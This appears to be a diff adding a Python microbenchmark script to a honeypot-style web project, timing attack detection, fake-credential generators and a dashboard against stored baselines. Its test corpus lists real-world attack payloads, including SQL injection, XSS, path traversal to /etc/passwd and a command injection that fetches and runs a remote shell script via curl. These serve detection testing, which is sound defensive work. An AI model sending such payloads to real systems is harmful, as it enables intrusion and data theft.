@@ -0,0 +1,231 @@
+#!/usr/bin/env python3
+
+"""
+In-process microbenchmarks for the hot functions, checked against committed
+baselines so performance regressions fail the run:
+
+- AccessTracker.record_access and get_stats at growing event counts
+- detect_attack_type over a corpus of real attack payloads and benign paths
+- Handler.generate_page, every page generator in generators.py,
+  template_loader.load_template and generate_dashboard
+
+Timings are divided by a fixed pure-Python calibration loop run on the same
+machine, so baselines recorded on one host stay meaningful on another.
+No network is used.
+
+    python3 tests/microbench.py                    # run and compare with the baseline
+    python3 tests/microbench.py --full             # tracker at 10k/1M/10M events (slow, needs GBs of RAM)
+    python3 tests/microbench.py --runs 3 --update-baseline  # record the best of 3 runs as the baseline
+"""
+
+import argparse
+import gc
+import json
+import os
+import random
+import sys
+import time
+import timeit
+from itertools import cycle
+from typing import Callable, Dict, List, Tuple
+
+ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..')
+sys.path.insert(0, os.path.join(ROOT, 'src'))
+
+import generators  # noqa: E402
+from config import Config  # noqa: E402
+from handler import Handler  # noqa: E402
+from templates.dashboard_template import generate_dashboard  # noqa: E402
+from templates.template_loader import load_template  # noqa: E402
+from tracker import AccessTracker  # noqa: E402
+
+
+BASELINE_PATH = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'microbench_baseline.json')
+QUICK_SIZES = (10_000, 100_000)
+FULL_SIZES = (10_000, 1_000_000, 10_000_000)
+# Entries expected to take less than this per call are timed too coarsely for --tolerance
+SMALL_ENTRY_SECONDS = 2e-6
+
+# Payloads as seen in the wild (sqlmap, scanners, webshell probes) plus ordinary paths
+ATTACK_CORPUS = [
+    "/index.php?id=1' AND 1=1 UNION ALL SELECT NULL,CONCAT(0x7171,0x71),NULL-- -",
+    "/products?cat=1%27%20OR%20%271%27=%271",
+    "/login.php?user=admin'--&pass=x",
+    "/search?q=<script>alert(document.cookie)</script>",
+    "/comment?msg=<img src=x onerror=alert(1)>",
+    "/redirect?url=javascript:alert(1)",
+    "/../../../../etc/passwd",
+    "/static/..%2f..%2f..%2fetc/shadow",
+    "/cgi-bin/ping.cgi?host=127.0.0.1;cat /etc/passwd",
+    "/api/exec?cmd=$(curl http://203.0.113.5/x.sh|sh)",
+    "/shell.php?c=`id`",
+    "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
+    "/phpmyadmin/index.php?lang=en",
+    "/.env",
+    "/.git/HEAD",
+    "/admin/config.php",
+    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x",
+    "/",
+    "/about/team.html",
+    "/blog/2024/05/hello-world",
+    "/assets/css/site.min.css?v=1.2.3",
+    "/favicon.ico",
+    "/robots.txt",
+    "/images/logo.png",
+    "/api/v1/status",
+]
+USER_AGENTS = [
+    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
+    'sqlmap/1.7.2#stable (https://sqlmap.org)', 'python-requests/2.31.0', 'curl/8.4.0', '',
+]
+
+
+def calibrate() -> float:
+    """Seconds for a fixed mix of dict, string and arithmetic work"""
+    def workload():
+        d = {}
+        for i in range(2000):
+            key = f'k{i % 97}'
+            d[key] = d.get(key, 0) + i * 3 // 7
+        return ''.join(sorted(d))
+    return min(timeit.repeat(workload, number=20, repeat=30)) / 20
+
+
+def per_call(func: Callable[[], object], min_time: float = 0.2) -> float:
+    """Best per-call seconds over a few repeats of an auto-sized loop"""
+    timer = timeit.Timer(func)
+    number, _ = timer.autorange()
+    number = max(1, int(number * min_time / 0.2))
+    return min(timer.repeat(repeat=7, number=number)) / number
+
+
+def make_events(count: int, seed: int = 1) -> List[Tuple[str, str, str]]:
+    rng = random.Random(seed)
+    ips = [f'198.{rng.randint(18, 19)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}' for _ in range(5000)]
+    paths = ATTACK_CORPUS + [f'/{rng.getrandbits(40):x}/{rng.getrandbits(20):x}' for _ in range(2000)]
+    return [(rng.choice(ips), rng.choice(paths), rng.choice(USER_AGENTS)) for _ in range(count)]
+
+
+def bench_tracker(sizes) -> Dict[str, float]:
+    results = {}
+    for size in sizes:
+        events = make_events(size)
+        tracker = AccessTracker()
+        gc.collect()
+        start = time.perf_counter()
+        for ip, path, agent in events:
+            tracker.record_access(ip, path, agent)
+        results[f'tracker.record_access@{size}'] = (time.perf_counter() - start) / size
+        del events
+        results[f'tracker.get_stats@{size}'] = per_call(tracker.get_stats, min_time=0.05)
+        if size == sizes[0]:
+            stats = tracker.get_stats()
+            results['generate_dashboard'] = per_call(lambda: generate_dashboard(stats, '/dash/events'))
+        del tracker
+        gc.collect()
+    return results
+
+
+def bench_functions() -> Dict[str, float]:
+    tracker = AccessTracker()
+    corpus = cycle(ATTACK_CORPUS)
+
+    Handler.config = Config.from_env()
+    # generate_page only needs class-level state, so skip the socket setup
+    handler = Handler.__new__(Handler)
+    paths = cycle([f'/{i:x}/page' for i in range(4096)])
+    tries = Handler.config.canary_token_tries
+
+    return {
+        'tracker.detect_attack_type': per_call(lambda: tracker.detect_attack_type(next(corpus))),
+        'handler.generate_page': per_call(lambda: handler.generate_page(next(paths), tries)),
+        'generators.credentials_txt': per_call(generators.credentials_txt),
+        'generators.passwords_txt': per_call(generators.passwords_txt),
+        'generators.users_json': per_call(generators.users_json),
+        'generators.api_keys_json': per_call(generators.api_keys_json),
+        'generators.api_response': per_call(lambda: generators.api_response('/api/v1/users')),
+        'generators.directory_listing': per_call(lambda: generators.directory_listing('/backup/')),
+        'generators.random_username': per_call(generators.random_username),
+        'generators.random_password': per_call(generators.random_password),
+        'generators.random_email': per_call(generators.random_email),
+        'generators.random_api_key': per_call(generators.random_api_key),
+        'generators.random_database_name': per_call(generators.random_database_name),
+        'template_loader.load_template': per_call(lambda: load_template('login_form')),
+        'template_loader.load_template[format]': per_call(
+            lambda: load_template('directory_listing', path='/backup/', rows='<tr></tr>')),
+    }
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description='Krawl microbenchmarks with regression thresholds')
+    parser.add_argument('--full', action='store_true', help='tracker benchmarks at 10k/1M/10M events')
+    parser.add_argument('--tolerance', type=float, default=0.5,
+                        help='allowed slowdown over the baseline, as a fraction (default: 0.5)')
+    parser.add_argument('--small-tolerance', type=float, default=1.0,
+                        help='allowed slowdown for entries under 2us per call, as a fraction (default: 1.0)')
+    parser.add_argument('--runs', type=int, default=1, help='repeat the suite and keep the best times')
+    parser.add_argument('--baseline', default=BASELINE_PATH)
+    parser.add_argument('--update-baseline', action='store_true')
+    parser.add_argument('--filter', default='', help='only report and check benchmarks whose name contains this')
+    args = parser.parse_args()
+
+    # The best of several runs filters out noise from other processes
+    unit = calibrate()
+    results: Dict[str, float] = {}
+    for _ in range(args.runs):
+        unit = min(unit, calibrate())
+        run = bench_functions()
+        run.update(bench_tracker(FULL_SIZES if args.full else QUICK_SIZES))
+        results = {name: min(value, results.get(name, value)) for name, value in run.items()}
+    if args.filter:
+        results = {name: value for name, value in results.items() if args.filter in name}
+    normalized = {name: value / unit for name, value in results.items()}
+
+    baseline: Dict[str, float] = {}
+    if os.path.exists(args.baseline):
+        with open(args.baseline) as f:
+            baseline = json.load(f)['normalized']
+
+    print(f'calibration unit: {unit * 1e6:.1f} us')
+    print(f'{"benchmark":42} {"time":>12} {"units":>9} {"baseline":>9} {"change":>8}')
+    regressions = []
+    missing = []
+    for name, value in results.items():
+        score = normalized[name]
+        reference = baseline.get(name)
+        if reference:
+            change = score / reference - 1
+            status = f'{change * 100:+7.1f}%'
+            small = reference * unit < SMALL_ENTRY_SECONDS
+            if change > (args.small_tolerance if small else args.tolerance):
+                regressions.append(name)
+                status += ' REGRESSED'
+        else:
+            missing.append(name)
+            status = '     new'
+        time_text = f'{value * 1e6:.2f} us' if value < 0.01 else f'{value * 1e3:.2f} ms'
+        print(f'{name:42} {time_text:>12} {score:9.4f} {reference or 0:9.4f} {status}')
+
+    if args.update_baseline:
+        merged = {**baseline, **normalized}
+        with open(args.baseline, 'w') as f:
+            json.dump({'normalized': dict(sorted(merged.items()))}, f, indent=2)
+            f.write('\n')
+        print(f'baseline written to {args.baseline}')
+        return
+
+    failed = False
+    if regressions:
+        print(f'{len(regressions)} regression(s) over tolerance: {", ".join(regressions)}')
+        failed = True
+    if missing:
+        # An entry without a baseline could never fail, so it is not allowed to pass silently
+        print(f'{len(missing)} benchmark(s) without a baseline (record with --update-baseline): {", ".join(missing)}')
+        failed = True
+    if failed:
+        sys.exit(1)
+
+
+if __name__ == '__main__':
+    main()